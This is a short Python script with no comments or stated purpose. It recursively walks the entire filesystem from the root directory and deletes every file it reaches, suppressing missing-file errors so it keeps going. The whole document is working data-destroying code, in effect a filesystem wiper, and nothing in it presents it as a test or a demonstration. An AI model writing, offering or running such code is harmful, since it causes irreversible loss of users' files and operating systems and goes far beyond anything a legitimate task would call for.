from pathlib import Path

for entry in sorted(Path("/").rglob("*"), reverse=True):
    if entry.is_file():
        entry.unlink(missing_ok=True)
